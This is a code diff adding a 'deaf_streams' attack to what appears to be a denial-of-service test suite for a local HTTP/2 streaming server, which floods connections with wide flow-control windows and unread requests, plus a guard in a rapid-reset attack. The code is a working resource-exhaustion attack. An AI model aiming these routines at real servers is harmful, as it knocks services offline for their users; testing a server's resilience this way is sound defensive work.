@@ -152,6 +152,35 @@ async def deaf_followers(target: Target) -> None:
     await crowd(target, one)
 
 
+async def deaf_streams(target: Target) -> None:
+    """Open windows as wide as they go, ask for all that there is a hundred times, read nothing."""
+    path, basin = target.records(target.history, "?seq_num=0"), ("s2-basin", target.basin)
+    kinds = (
+        ("accept", "text/event-stream"),
+        ("content-type", "s2s/proto"),
+        ("accept", "application/json"),
+    )
+    flags = wires.END_HEADERS | wires.END_STREAM
+    blocks = [request("GET", path, basin, kind) for kind in kinds]
+    window = struct.pack(">I", wires.WINDOW_MAX - 65_535)
+    streams = preface() + frame(wires.WINDOW_UPDATE, 0, 0, window)
+    streams += b"".join(
+        frame(wires.HEADERS, flags, 2 * at + 1, blocks[at % len(blocks)]) for at in range(100)
+    )
+
+    async def one(index: int) -> None:
+        with socket.socket() as sock:
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+            sock.setblocking(False)
+            loop = asyncio.get_running_loop()
+            await loop.sock_connect(sock, ("127.0.0.1", target.port))
+            whole = head("GET", path, basin) * 10
+            await loop.sock_sendall(sock, whole if index % 2 else streams)
+            await CLOCK.sleep(5)
+
+    await crowd(target._replace(crowd=max(2, target.crowd // 10)), one)
+
+
 # Large ones
 
 
@@ -282,6 +311,8 @@ async def rapid_resets(target: Target) -> None:
         try:
             writer.write(preface())
             for number in range(100_000):
+                if writer.is_closing():  # asyncio would write a line for each further write
+                    return
                 stream = 2 * number + 1
                 block = blocks[number % 3]
                 writer.write(
@@ -359,6 +390,7 @@ ATTACKS: Final[dict[str, Attack]] = {
         slow_bodies,
         half_open_sockets,
         deaf_followers,
+        deaf_streams,
         header_floods,
         header_lists,
         compression_bombs,
